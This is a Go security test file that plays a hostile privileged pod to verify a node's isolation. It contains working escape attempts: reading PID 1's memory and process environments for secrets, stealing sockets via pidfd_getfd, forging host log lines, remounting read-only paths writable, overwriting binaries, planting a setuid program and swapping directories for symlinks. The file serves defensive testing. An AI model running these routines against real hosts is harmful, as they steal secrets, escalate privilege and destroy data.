//go:build linux

package e2e

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// attackEnv makes the test's program one that a hostile pod runs: with the node's
// root at /host, all its processes, its network and every capability that a pod can
// get. It prints what it got hold of, a line each; the test wants none.
const attackEnv = "NETDOJO_TEST_ATTACK"

// spoils is what the attacker knows of the host, and looks for.
type spoils struct {
	Secret string `json:"secret"` // in the environment of whoever brought the cluster up
	Cookie uint64 `json:"cookie"` // of the host's network namespace (SO_NETNS_COOKIE)
	Victim string `json:"victim"` // host:port that listens on the host
	Free   string `json:"free"`   // host:port on the host that nobody listens on
}

// attacks are tried in this order. Those that break the node come last.
var attacks = []struct {
	name string
	try  func(spoils) []string
}{
	{"records", findRecords},
	{"memory", readSecrets},
	{"keys", readKeys},
	{"sockets", stealSockets},
	{"log", forgeLog},
	{"mounts", changeMounts},
	{"programs", overwritePrograms},
	{"setuid", leaveSetuid},
	{"requests", askTheLauncher},
	{"links", leaveLinks},
}

func attack(what string) int {
	var s spoils
	if err := json.Unmarshal([]byte(what), &s); err != nil {
		fmt.Println("the attack itself:", err)
		return 1
	}
	for _, a := range attacks {
		for _, got := range a.try(s) {
			fmt.Printf("%s: %s\n", a.name, got)
		}
	}
	return 0
}

// findRecords looks for files that the host reads or trusts.
func findRecords(spoils) (got []string) {
	names := []string{"cluster.json", "kubeconfig", "lock", "ports", "daemon.log", "control.sock", "end.json"}
	_ = filepath.WalkDir("/host", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && slices.Contains([]string{"/host/proc", "/host/sys", "/host/usr", "/host/var/lib/kubelet", "/host/var/lib/netdojo/roots"}, path) {
			return fs.SkipDir
		}
		if slices.Contains(names, d.Name()) && !strings.HasPrefix(path, "/host/var/lib/netdojo/controlplane/") && !strings.HasPrefix(path, "/host/run/") {
			got = append(got, path)
		}
		return nil
	})
	return got
}

// processes are all of the node's but this one.
func processes() (all []int) {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() {
			all = append(all, pid)
		}
	}
	return all
}

// readSecrets looks into the environment of every process, and into all memory of
// PID 1.
func readSecrets(s spoils) (got []string) {
	for _, pid := range processes() {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		if err == nil && bytes.Contains(b, []byte(s.Secret)) {
			got = append(got, fmt.Sprintf("the environment of process %d", pid))
		}
	}
	maps, err := os.ReadFile("/proc/1/maps")
	if err != nil {
		return append(got, "nothing: no maps of PID 1 to look into: "+err.Error())
	}
	mem, err := os.Open("/proc/1/mem")
	if err != nil {
		return append(got, "nothing: no memory of PID 1 to look into: "+err.Error())
	}
	defer mem.Close()
	seen := 0
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		if _, err := fmt.Sscanf(line, "%x-%x r", &from, &to); err != nil || to-from > 256<<20 {
			continue
		}
		b := make([]byte, to-from)
		n, _ := mem.ReadAt(b, from)
		seen += n
		if bytes.Contains(b[:n], []byte(s.Secret)) {
			got = append(got, "the memory of PID 1: "+strings.TrimSpace(line))
		}
	}
	if seen == 0 {
		got = append(got, "nothing: no memory of PID 1 could be read")
	}
	return got
}

// callersKey is a key in the session keyring of whoever brings the cluster up.
const callersKey = "netdojo-test-key"

// readKeys looks for it.
func readKeys(spoils) (got []string) {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", callersKey, 0)
	if err == nil {
		got = append(got, fmt.Sprintf("the key %d of the caller's session", id))
	} else if !errors.Is(err, unix.ENOKEY) && !errors.Is(err, unix.ENOSYS) && !errors.Is(err, unix.EPERM) {
		got = append(got, "nothing: the session's keyring could not be searched: "+err.Error())
	}
	return got
}

// descriptors calls f with a copy of every descriptor of a kind, "socket:" or "pipe:",
// of the node's processes.
func descriptors(kind string, f func(pid, fd int)) int {
	seen := 0
	for _, pid := range processes() {
		p, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			continue
		}
		entries, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
		for _, e := range entries {
			link, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, e.Name()))
			n, err := strconv.Atoi(e.Name())
			if err != nil || !strings.HasPrefix(link, kind) {
				continue
			}
			if fd, err := unix.PidfdGetfd(p, n, 0); err == nil {
				seen++
				f(pid, fd)
				unix.Close(fd)
			}
		}
		unix.Close(p)
	}
	return seen
}

// stealSockets looks for sockets of the host's network: whoever has one can connect it
// anew, to what listens on the host's loopback.
func stealSockets(s spoils) (got []string) {
	seen := descriptors("socket:", func(pid, fd int) {
		domain, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN)
		if err != nil || domain != unix.AF_INET && domain != unix.AF_INET6 {
			return
		}
		cookie, err := unix.GetsockoptUint64(fd, unix.SOL_SOCKET, unix.SO_NETNS_COOKIE)
		if err == nil && cookie == s.Cookie {
			got = append(got, fmt.Sprintf("an internet socket of the host's network, of process %d", pid))
		}
	})
	if seen == 0 {
		got = append(got, "nothing: no socket could be copied")
	}
	return got
}

// forgedWords are what forgeLog wants the host to take for netdojo's own.
const forgedWords = "netdojo: forged by a pod\ncure: forged by a pod\n"

// forgeLog writes to every pipe of the node's: one leads to the host's log. It is the
// test that looks how it arrives there.
func forgeLog(spoils) []string {
	written := 0
	descriptors("pipe:", func(_, fd int) {
		// A pipe that is full would hold the attack up.
		ready, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, 0)
		if err != nil || ready == 0 {
			return
		}
		if _, err := unix.Write(fd, []byte(forgedWords)); err == nil {
			written++
		}
	})
	if written == 0 {
		return []string{"nothing: no pipe could be written to"}
	}
	return nil
}

// changeMounts tries to write where the node may only read, from the pod's mounts and
// from the node's own.
func changeMounts(spoils) (got []string) {
	done := make(chan []string)
	try := func(where, prefix string) {
		for _, path := range []string{"/usr", "/opt/netdojo/images", "/opt/netdojo/netdojo-cluster", "/opt/netdojo/netdojo-helper", "/etc/ssl"} {
			path = prefix + path
			if _, err := os.Stat(path); err != nil {
				continue
			}
			if err := unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND, ""); err == nil {
				got = append(got, where+": "+path+" is writable")
			}
			attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
			if err := unix.MountSetattr(unix.AT_FDCWD, path, 0, &attr); err == nil {
				got = append(got, where+": "+path+" is writable by mount_setattr")
			}
			if err := unix.Unmount(path, unix.MNT_DETACH); err == nil && prefix == "" {
				got = append(got, where+": "+path+" could be taken away")
			}
		}
		err := unix.Mount("", prefix+"/var", "", unix.MS_REMOUNT|unix.MS_BIND, "")
		var s unix.Statfs_t
		if err == nil || unix.Statfs(prefix+"/var", &s) == nil && s.Flags&(unix.ST_NOSUID|unix.ST_NODEV) != unix.ST_NOSUID|unix.ST_NODEV {
			got = append(got, where+": /var lets programs be setuid or files be devices")
		}
		// Below a mount lies what it covers: of the host's, if anything.
		_ = os.MkdirAll("/tmp/below", 0o755)
		if err := unix.Mount(prefix+"/", "/tmp/below", "", unix.MS_BIND, ""); err == nil && prefix != "" {
			got = append(got, where+": the root without its mounts")
			_ = unix.Unmount("/tmp/below", unix.MNT_DETACH)
		}
	}
	try("in the pod", "/host")
	go func() {
		runtime.LockOSThread() // and is not given back: the thread is in other mounts
		defer close(done)
		fd, err := unix.Open("/proc/1/ns/mnt", unix.O_RDONLY, 0)
		if err == nil {
			err = errors.Join(unix.Unshare(unix.CLONE_FS), unix.Setns(fd, unix.CLONE_NEWNS))
		}
		if err != nil {
			got = append(got, "nothing: the node's mounts could not be entered: "+err.Error())
			return
		}
		try("in the node", "")
	}()
	<-done
	return got
}

// overwritePrograms tries to change what other clusters and the host run or believe.
func overwritePrograms(spoils) (got []string) {
	for _, path := range []string{
		"/host/opt/netdojo/netdojo-cluster", "/host/opt/netdojo/netdojo-helper", "/host/opt/netdojo/netdojo-coredns",
		"/host/opt/netdojo/images/index.json", "/host/opt/netdojo/images/oci-layout", "/host/usr/bin/env", "/proc/1/exe",
	} {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			f.Close()
			got = append(got, path+" can be written")
		}
	}
	for _, dir := range []string{"/host/opt/netdojo/images", "/host/usr/bin"} {
		path := filepath.Join(dir, "planted")
		if err := os.WriteFile(path, []byte("x"), 0o755); err == nil {
			got = append(got, "a file in "+dir)
		}
	}
	// Whoever may only read can still hold a lock.
	if f, err := os.Open("/host/opt/netdojo/images/index.json"); err == nil {
		_ = unix.Flock(int(f.Fd()), unix.LOCK_EX)
		_ = f // held as long as this process lives
	}
	return got
}

// setuidName is the file that leaveSetuid leaves.
const setuidName = "sh-of-the-owner"

// leaveSetuid puts a setuid program on the disk, for another user of the machine. It is
// the test that looks whether one gets there.
func leaveSetuid(spoils) []string {
	b, err := os.ReadFile("/proc/self/exe")
	if err == nil {
		path := "/host/var/" + setuidName
		err = errors.Join(os.WriteFile(path, b, 0o755), os.Chmod(path, 0o4755|fs.ModeSetuid), unix.Chmod(path, 0o4755))
	}
	if err != nil {
		return []string{"nothing: no setuid program could be left: " + err.Error()}
	}
	return nil
}

// askTheLauncher sends requests in the node's place over every socket of packets. The node
// gives back what it did not ask for, so each is sent often: the test has to see it.
func askTheLauncher(s spoils) (got []string) {
	sent := 0
	descriptors("socket:", func(_, fd int) {
		kind, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_TYPE)
		if err != nil || kind != unix.SOCK_SEQPACKET {
			return
		}
		all := []map[string]any{
			{"op": "dial", "network": "tcp4", "addr": s.Victim}, {"network": "tcp4", "addr": s.Victim},
			{"op": "listen", "network": "tcp4", "addr": s.Free}, {"network": "tcp4", "addr": s.Free, "listen": true},
			{"op": "listen", "network": "unix", "addr": s.Free}, {"op": "dial", "network": "ip4:1", "addr": s.Victim},
			{"op": "take", "name": "control.sock"}, {"op": "take", "name": "listen/0"},
		}
		for i := range 500 * len(all) {
			r := all[i%len(all)]
			r["id"] = 1<<40 + i
			b, _ := json.Marshal(r)
			if unix.Send(fd, b, unix.MSG_DONTWAIT) == nil {
				sent++
			}
		}
	})
	if sent == 0 {
		return []string{"nothing: no request could be sent"}
	}
	return nil // what comes of it the test sees, until the launcher has ended
}

// leaveLinks turns folders of the node's disk into links that lead, from the host's
// root, to a folder of the owner's. They are followed at the next start, if ever.
func leaveLinks(spoils) []string {
	target := os.Getenv("NETDOJO_TEST_PRECIOUS")
	for _, path := range []string{"/host/var/lib/netdojo/images", "/host/var/lib/netdojo", "/host/var/lib/kubelet", "/host/var/log", "/host/var/run"} {
		_ = os.Rename(path, path+".gone")
		if err := os.Symlink(target, path); err != nil && !errors.Is(err, fs.ErrExist) {
			return []string{"nothing: no link could be left: " + err.Error()}
		}
	}
	_ = os.Remove("/host/var/lib")
	return nil
}
